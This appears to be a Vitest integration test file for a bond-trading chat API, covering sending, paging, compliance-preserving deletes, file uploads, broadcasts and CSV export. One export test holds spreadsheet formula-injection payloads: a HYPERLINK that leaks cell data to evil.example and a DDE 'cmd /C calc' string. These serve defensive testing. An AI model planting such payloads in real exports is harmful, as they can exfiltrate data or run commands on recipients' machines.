/**
 * Chat messages (issue #10, spec 02 §4 Messages, Read and delivered): idempotent send, bad input
 * refused with nothing stored, pages by createdAt, unread counts, delete kept for compliance,
 * files (size limit, type allow-list, bytes in file storage), broadcast, and the compliance export.
 */
import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatMessages, chatChannels, storedFiles as storedFilesTable } from '../../src/server/db/schema';
import { BUZZ_DATA, CHAT_LIMITS, CHAT_MESSAGES, type ChatChannel } from '../../src/shared/contracts/chat';
import { chatter, createChannel, multipartWith, send, type Chatter } from './helpers/chat';
import { PNG_BYTES } from './helpers/multipart';
import { bearer, signIn } from './helpers/signIn';
import { createTestApp, type TestApp } from './helpers/testApp';

let t: TestApp;
let asha: Chatter; // arihant dealer
let vik: Chatter; // vasuki dealer
let tara: Chatter; // trishul dealer
/** Direct chats are distinct per pair: each test that needs a fresh one takes a pair nobody used. */
const arihant: Chatter[] = [];
const vasuki: Chatter[] = [];
let pairs = 0;
const freshPair = () => {
  const i = pairs++;
  return [arihant[i % arihant.length]!, vasuki[Math.floor(i / arihant.length)]!] as const;
};
const SEATS = ['clientdealer', 'backoffice', 'clientopsadmin', 'priceoverride', 'user'];
beforeAll(async () => {
  t = await createTestApp();
  for (const seat of SEATS) {
    arihant.push(await chatter(t.app, `${seat}@arihant.demo`));
    vasuki.push(await chatter(t.app, `${seat}@vasuki.demo`));
  }
  [asha, vik] = [arihant[0]!, vasuki[0]!];
  tara = await chatter(t.app, 'clientdealer@trishul.demo');
  // The broadcast test below uses asha's direct chats with vik and tara as new ones.
  pairs = 1;
});
afterAll(async () => {
  await t.close();
});

const db = () => t.ctx.database.db;
const messagesIn = async (url: string) => {
  const [channel] = await db().select().from(chatChannels).where(eq(chatChannels.url, url));
  return db().select().from(chatMessages).where(eq(chatMessages.channelId, channel!.id));
};
/** Every key in file storage. */
/** The keys in the app's file store: DATA_DIR/files, or the stored_files table on PostgreSQL. */
const storedFiles = async () =>
  t.ctx.database.kind === 'postgres'
    ? (await t.ctx.database.db.select({ key: storedFilesTable.key }).from(storedFilesTable)).map((f) => f.key).sort()
    : (await readdir(t.ctx.config.filesDir, { recursive: true, withFileTypes: true }).catch(() => []))
        .filter((e) => e.isFile())
        .map((e) => join(e.parentPath, e.name).slice(t.ctx.config.filesDir.length + 1))
        .sort();
/** A fresh pair in a joined direct chat. */
const direct = async (): Promise<ChatChannel & { a: Chatter; b: Chatter }> => {
  const [a, b] = freshPair();
  const channel = await createChannel(a, { customType: 'direct', invitedUserIds: [b.userId] });
  await b.call('POST', `/api/chat/channels/${channel.url}/accept/`);
  return { ...channel, a, b };
};
const page = async (c: Chatter, url: string, query = '') => (await c.call('GET', `/api/chat/channels/${url}/messages/${query}`)).json();

describe('sending', () => {
  it('a message reaches the other member with its sender; the same reqId again answers the first (200), storing one', async () => {
    const channel = await direct();
    const [asha, vik] = [channel.a, channel.b];
    const body = { reqId: 'r-1', message: '  Bid 7.42 for 25 cr NABARD 2030  ' };
    const first = await asha.call('POST', `/api/chat/channels/${channel.url}/messages/`, body);
    expect(first.statusCode).toBe(201);
    expect(first.json()).toMatchObject({
      reqId: 'r-1',
      messageType: 'user',
      message: 'Bid 7.42 for 25 cr NABARD 2030',
      sender: { userId: asha.userId },
      channelUrl: channel.url,
    });
    const retry = await asha.call('POST', `/api/chat/channels/${channel.url}/messages/`, body);
    expect(retry.statusCode).toBe(200);
    expect(retry.json().messageId).toBe(first.json().messageId);
    expect(await messagesIn(channel.url)).toHaveLength(1);
    expect((await page(vik, channel.url)).messages.map((m: { message: string }) => m.message)).toEqual(['Bid 7.42 for 25 cr NABARD 2030']);
    // The channel's data carries the last direct message time in seconds.
    const seen = (await vik.call('GET', `/api/chat/channels/${channel.url}/`)).json();
    expect(JSON.parse(seen.data).last_direct_message_at).toBe(Math.floor(first.json().createdAt / 1000));
    expect(seen.lastMessage.messageId).toBe(first.json().messageId);
  });

  it('bad input is a 400 and nothing is stored: empty, too long, no reqId; an unknown channel is 404', async () => {
    const channel = await direct();
    const asha = channel.a;
    for (const body of [
      { reqId: 'e1', message: '   ' },
      { reqId: 'e2', message: 'x'.repeat(CHAT_LIMITS.messageMaxChars + 1) },
      { reqId: '', message: 'hi' },
      { message: 'hi' },
    ]) {
      const res = await asha.call('POST', `/api/chat/channels/${channel.url}/messages/`, body);
      expect(res.statusCode, JSON.stringify(body).slice(0, 40)).toBe(400);
    }
    expect((await asha.call('POST', `/api/chat/channels/${channel.url}/messages/`, { reqId: 'e1', message: ' ' })).json().message).toBe(
      CHAT_MESSAGES.emptyMessage,
    );
    expect(await messagesIn(channel.url)).toHaveLength(0);
    expect((await asha.call('POST', '/api/chat/channels/kosh_dc_unknown/messages/', { reqId: 'u', message: 'hi' })).statusCode).toBe(404);
  });

  it('a buzz is a message with the buzz data and no text', async () => {
    const channel = await direct();
    const asha = channel.a;
    const buzz = await asha.call('POST', `/api/chat/channels/${channel.url}/messages/`, { reqId: 'buzz-1', message: '', data: BUZZ_DATA });
    expect(buzz.statusCode).toBe(201);
    expect(buzz.json()).toMatchObject({ data: BUZZ_DATA, message: '' });
  });

  it('a non-member neither reads nor writes a chat (404), whatever client they are from', async () => {
    const channel = await direct();
    const asha = channel.a;
    await send(asha, channel.url, 'private');
    expect((await tara.call('GET', `/api/chat/channels/${channel.url}/messages/`)).statusCode).toBe(404);
    expect((await tara.call('POST', `/api/chat/channels/${channel.url}/messages/`, { reqId: 'z', message: 'hi' })).statusCode).toBe(404);
    expect((await vasuki[4]!.call('PUT', `/api/chat/channels/${channel.url}/read/`)).statusCode).toBe(404);
  });
});

describe('pages and unread counts', () => {
  it('newest page first, then older pages by createdAt with has_more, and newer ones after a time', async () => {
    const channel = await direct();
    const [asha, vik] = [channel.a, channel.b];
    const sent = [];
    for (let i = 1; i <= 7; i += 1) sent.push(await send(i % 2 ? asha : vik, channel.url, `m${i}`));
    // Messages of the same millisecond still get distinct, increasing times.
    expect(new Set(sent.map((m) => m.createdAt)).size).toBe(7);
    const newest = await page(asha, channel.url, '?limit=3');
    expect(newest.messages.map((m: { message: string }) => m.message)).toEqual(['m5', 'm6', 'm7']);
    expect(newest.has_more).toBe(true);
    const older = await page(asha, channel.url, `?limit=3&before=${newest.messages[0].createdAt}`);
    expect(older.messages.map((m: { message: string }) => m.message)).toEqual(['m2', 'm3', 'm4']);
    const oldest = await page(asha, channel.url, `?limit=3&before=${older.messages[0].createdAt}`);
    expect(oldest).toMatchObject({ has_more: false });
    expect(oldest.messages.map((m: { message: string }) => m.message)).toEqual(['m1']);
    const newer = await page(asha, channel.url, `?limit=4&after=${sent[1]!.createdAt}`);
    expect(newer.messages.map((m: { message: string }) => m.message)).toEqual(['m3', 'm4', 'm5', 'm6']);
    expect(newer.has_more).toBe(true);
    expect((await asha.call('GET', `/api/chat/channels/${channel.url}/messages/?limit=0`)).statusCode).toBe(400);
  });

  it('unread counts the messages from others after my read mark; marking read clears it', async () => {
    const channel = await direct();
    const [asha, tara] = [channel.a, channel.b];
    await send(asha, channel.url, 'one');
    await send(tara, channel.url, 'two');
    await send(tara, channel.url, 'three');
    const unread = async (c: Chatter) =>
      (await c.call('GET', '/api/chat/channels/')).json().channels.find((x: ChatChannel) => x.url === channel.url).unreadMessageCount;
    expect(await unread(asha)).toBe(2);
    expect(await unread(tara)).toBe(1);
    expect((await asha.call('PUT', `/api/chat/channels/${channel.url}/read/`)).statusCode).toBe(204);
    expect(await unread(asha)).toBe(0);
    expect((await tara.call('PUT', `/api/chat/channels/${channel.url}/delivered/`)).statusCode).toBe(204);
    expect(await unread(tara)).toBe(1);
    await send(tara, channel.url, 'four');
    expect(await unread(asha)).toBe(1);
  });
});

describe('delete: hidden from members, kept for compliance', () => {
  it('only the sender deletes; members no longer see it; the row stays with who and when', async () => {
    const channel = await direct();
    const [asha, vik] = [channel.a, channel.b];
    const keep = await send(asha, channel.url, 'keep');
    const gone = await send(asha, channel.url, 'typo');
    const notYours = await vik.call('DELETE', `/api/chat/channels/${channel.url}/messages/${gone.messageId}/`);
    expect(notYours.statusCode).toBe(403);
    expect(notYours.json().message).toBe(CHAT_MESSAGES.notYourMessage);
    t.clock.advance(60_000);
    expect((await asha.call('DELETE', `/api/chat/channels/${channel.url}/messages/${gone.messageId}/`)).statusCode).toBe(204);
    expect((await asha.call('DELETE', `/api/chat/channels/${channel.url}/messages/${gone.messageId}/`)).statusCode).toBe(404);
    for (const c of [asha, vik])
      expect((await page(c, channel.url)).messages.map((m: { messageId: number }) => m.messageId)).toEqual([keep.messageId]);
    const [row] = (await messagesIn(channel.url)).filter((m) => m.id === gone.messageId);
    expect(row).toMatchObject({ message: 'typo', deletedAt: t.clock.now() });
    expect(row!.deletedBy).toEqual(expect.any(Number));
    // The database refuses a hard delete.
    await expect(db().delete(chatMessages).where(eq(chatMessages.id, gone.messageId))).rejects.toThrow();
  });

  it("the export: members get their visible messages; the client's compliance officers get deleted ones too, marked; others 404", async () => {
    const channel = await direct();
    const [asha, vik] = [channel.a, channel.b];
    const start = t.clock.now().getTime();
    await send(asha, channel.url, 'Offer 7.40, "firm" for 10 min');
    const gone = await send(vik, channel.url, 'wrong bond');
    await vik.call('DELETE', `/api/chat/channels/${channel.url}/messages/${gone.messageId}/`);
    const body = { startTime: start, endTime: start + 60_000, channelIds: [channel.url] };
    const asMember = await asha.plain('POST', '/api/download-chats', body);
    expect(asMember.statusCode).toBe(200);
    expect(asMember.headers['content-type']).toMatch(/^text\/csv/);
    expect(asMember.body).toContain('"Offer 7.40, ""firm"" for 10 min"');
    expect(asMember.body).not.toContain('wrong bond');
    for (const email of ['complianceofficer@arihant.demo', 'complianceofficer@vasuki.demo']) {
      const { access } = await signIn(t.app, email);
      const res = await t.app.inject({ method: 'POST', url: '/api/download-chats', headers: bearer(access), payload: body });
      expect(res.statusCode, email).toBe(200);
      const deletedLine = res.body.split('\r\n').find((l) => l.includes('wrong bond'))!;
      expect(deletedLine).toContain('"yes"');
    }
    expect((await tara.plain('POST', '/api/download-chats', body)).statusCode).toBe(404);
    expect((await asha.plain('POST', '/api/download-chats', { ...body, endTime: start - 1 })).statusCode).toBe(400);
    expect((await asha.plain('POST', '/api/download-chats', { ...body, channelIds: [] })).statusCode).toBe(400);
    // Outside the time range: nothing but the header.
    const before = await asha.plain('POST', '/api/download-chats', { ...body, startTime: start - 120_000, endTime: start - 60_000 });
    expect(before.body.trim().split('\r\n')).toHaveLength(1);
  });

  it("the export never hands a spreadsheet a formula: another firm's =HYPERLINK(...) reaches compliance as text", async () => {
    const channel = await direct();
    const start = t.clock.now().getTime();
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Statement")';
    await send(channel.b, channel.url, formula);
    await send(channel.b, channel.url, "@SUM(1+1)*cmd|' /C calc'!A0");
    await send(channel.a, channel.url, '-0.25 on the 2033s');
    const { access } = await signIn(t.app, 'complianceofficer@arihant.demo');
    const body = { startTime: start, endTime: start + 60_000, channelIds: [channel.url] };
    const res = await t.app.inject({ method: 'POST', url: '/api/download-chats', headers: bearer(access), payload: body });
    expect(res.statusCode).toBe(200);
    const { data } = Papa.parse<Record<string, string>>(res.body, { header: true, skipEmptyLines: true });
    expect(data.map((r) => r.Message)).toEqual([`'${formula}`, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-0.25 on the 2033s"]);
    // Numbers stay numbers.
    expect(data.every((r) => /^\d+$/.test(r['Message id']!))).toBe(true);
  });
});

describe('files', () => {
  const upload = (
    c: Chatter,
    url: string,
    fields: Record<string, string>,
    file: { name: string; type: string; content: Buffer } | null,
  ) => {
    const { payload, headers } = multipartWith(fields, file);
    return t.app.inject({
      method: 'POST',
      url: `/api/chat/channels/${url}/files/`,
      headers: { ...headers, ...bearer(c.access), 'x-chat-session': c.session },
      payload,
    });
  };

  it("an image is stored and served to members (and the client's compliance), not to others", async () => {
    const channel = await direct();
    const [asha, vik] = [channel.a, channel.b];
    const res = await upload(asha, channel.url, { req_id: 'f-1' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    expect(res.statusCode).toBe(201);
    const message = res.json();
    expect(message).toMatchObject({
      messageType: 'file',
      file: { name: 'ladder.png', type: 'image/png', size: PNG_BYTES.length, url: `/api/chat/files/${message.messageId}/` },
    });
    const again = await upload(asha, channel.url, { req_id: 'f-1' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    expect(again.statusCode).toBe(200);
    const got = await vik.plain('GET', message.file.url);
    expect(got.statusCode).toBe(200);
    expect(got.headers['content-type']).toBe('image/png');
    expect(got.rawPayload.equals(PNG_BYTES)).toBe(true);
    expect((await tara.plain('GET', message.file.url)).statusCode).toBe(404);
    const { access } = await signIn(t.app, 'complianceofficer@vasuki.demo');
    expect((await t.app.inject({ method: 'GET', url: message.file.url, headers: bearer(access) })).statusCode).toBe(200);
  });

  it('too large (413), a type not allowed, or bytes that are not the declared type (400): a clear message, nothing stored', async () => {
    const channel = await direct();
    const asha = channel.a;
    const tooBig = await upload(
      asha,
      channel.url,
      { req_id: 'big' },
      {
        name: 'big.pdf',
        type: 'application/pdf',
        content: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(CHAT_LIMITS.fileMaxBytes)]),
      },
    );
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json().message).toBe(CHAT_MESSAGES.fileTooLarge);
    const exe = await upload(
      asha,
      channel.url,
      { req_id: 'exe' },
      { name: 'run.exe', type: 'application/x-msdownload', content: Buffer.from('MZ\x90\x00') },
    );
    expect(exe.statusCode).toBe(400);
    expect(exe.json().message).toBe(CHAT_MESSAGES.fileType);
    const disguised = await upload(
      asha,
      channel.url,
      { req_id: 'fake' },
      { name: 'fake.png', type: 'image/png', content: Buffer.from('MZ\x90\x00not a png') },
    );
    expect(disguised.json().message).toBe(CHAT_MESSAGES.fileType);
    expect((await upload(asha, channel.url, {}, { name: 'a.png', type: 'image/png', content: PNG_BYTES })).statusCode).toBe(400);
    expect((await upload(asha, channel.url, { req_id: 'none' }, null)).statusCode).toBe(400);
    expect(await messagesIn(channel.url)).toHaveLength(0);
  });

  it('the bytes live in file storage (DATA_DIR/files, or the database on PostgreSQL), the row keeps key, size, type and sha256; a retry stores no second copy', async () => {
    const channel = await direct();
    const before = await storedFiles();
    const res = await upload(channel.a, channel.url, { req_id: 'disk-1' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    expect(res.statusCode).toBe(201);
    await upload(channel.a, channel.url, { req_id: 'disk-1' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    const [row] = (await messagesIn(channel.url)).filter((m) => m.reqId === 'disk-1');
    expect(row).toMatchObject({
      fileKey: expect.stringMatching(/^chat\//),
      fileSize: PNG_BYTES.length,
      fileType: 'image/png',
      fileContent: null,
      fileSha256: createHash('sha256').update(PNG_BYTES).digest('hex'),
    });
    const added = (await storedFiles()).filter((f) => !before.includes(f));
    expect(added).toEqual([row!.fileKey]);
    expect((await t.ctx.files.get(row!.fileKey!)).equals(PNG_BYTES)).toBe(true);
    const csv = (
      await channel.a.plain('POST', '/api/download-chats', { startTime: 0, endTime: t.clock.now().getTime(), channelIds: [channel.url] })
    ).body;
    expect(csv).toContain(row!.fileSha256!);
  });

  it('a file whose message is refused (not a member, muted) leaves nothing in storage', async () => {
    const channel = await direct();
    const before = await storedFiles();
    const outsider = await upload(tara, channel.url, { req_id: 'nope' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    expect(outsider.statusCode).toBe(404);
    const group = await createChannel(channel.a, { customType: 'group', name: 'Muted desk', invitedUserIds: [channel.b.userId] });
    await channel.b.call('POST', `/api/chat/channels/${group.url}/accept/`);
    await channel.a.call('POST', `/api/chat/channels/${group.url}/mute/`, { user_id: channel.b.userId });
    const muted = await upload(channel.b, group.url, { req_id: 'muted' }, { name: 'ladder.png', type: 'image/png', content: PNG_BYTES });
    expect([muted.statusCode, muted.json().message]).toEqual([403, CHAT_MESSAGES.muted]);
    expect(await storedFiles()).toEqual(before);
    expect(await messagesIn(group.url)).toHaveLength(0);
  });

  it('a file sent before the storage port (bytes in the row) is still served', async () => {
    const channel = await direct();
    const sent = await send(channel.a, channel.url, 'the old ladder');
    await db()
      .update(chatMessages)
      .set({ messageType: 'file', fileName: 'old.png', fileType: 'image/png', fileSize: PNG_BYTES.length, fileContent: PNG_BYTES })
      .where(eq(chatMessages.id, sent.messageId));
    const got = await channel.b.plain('GET', `/api/chat/files/${sent.messageId}/`);
    expect(got.statusCode).toBe(200);
    expect(got.rawPayload.equals(PNG_BYTES)).toBe(true);
  });

  it('a QuickTime video is accepted by its signature', async () => {
    const channel = await direct();
    const asha = channel.a;
    const mov = Buffer.concat([Buffer.from([0, 0, 0, 0x14]), Buffer.from('ftypqt  '), Buffer.alloc(32)]);
    expect(
      (await upload(asha, channel.url, { req_id: 'mov' }, { name: 'desk.mov', type: 'video/quicktime', content: mov })).statusCode,
    ).toBe(201);
  });
});

describe('broadcast', () => {
  it("one message to a direct chat with each person, created from the broadcast; the list itself is the sender's only", async () => {
    const body = { userIds: [vik.userId, tara.userId], name: 'Morning axes', reqId: 'bc-1', message: 'Axed to sell 50 cr REC 2029' };
    const res = await asha.call('POST', '/api/chat/broadcasts/', body);
    expect(res.statusCode).toBe(200);
    const { channels } = res.json() as { channels: ChatChannel[] };
    expect(channels).toHaveLength(2);
    const [list] = (await asha.call('GET', '/api/chat/channels/')).json().channels.filter((c: ChatChannel) => c.customType === 'broadcast');
    expect(list).toMatchObject({ name: 'Morning axes', memberCount: 1 });
    for (const [who, channel] of [
      [vik, channels[0]!],
      [tara, channels[1]!],
    ] as const) {
      expect(channel.customType).toBe('direct');
      expect(JSON.parse(channel.data).created_from).toBe(list.url);
      // Like any new direct chat it arrives as an invitation, showing the message; accepting opens it.
      const invitation = (await who.call('GET', `/api/chat/channels/${channel.url}/`)).json();
      expect(invitation).toMatchObject({ myMemberState: 'invited', lastMessage: { message: 'Axed to sell 50 cr REC 2029' } });
      await who.call('POST', `/api/chat/channels/${channel.url}/accept/`);
      const got = await page(who, channel.url);
      expect(got.messages.map((m: { message: string }) => m.message)).toEqual(['Axed to sell 50 cr REC 2029']);
      expect((await who.call('GET', '/api/chat/channels/')).json().channels.map((c: ChatChannel) => c.url)).not.toContain(list.url);
    }
    // A retry sends nothing twice.
    const retry = await asha.call('POST', '/api/chat/broadcasts/', body);
    expect(retry.json().channels.map((c: ChatChannel) => c.url)).toEqual(channels.map((c) => c.url));
    expect((await page(vik, channels[0]!.url)).messages).toHaveLength(1);
    // A later message in the list goes to each direct chat too.
    await send(asha, list.url, 'Still axed');
    expect((await page(tara, channels[1]!.url)).messages.map((m: { message: string }) => m.message)).toEqual([
      'Axed to sell 50 cr REC 2029',
      'Still axed',
    ]);
    expect((await asha.call('POST', '/api/chat/broadcasts/', { ...body, reqId: 'bc-2', message: '  ' })).statusCode).toBe(400);
  });
});
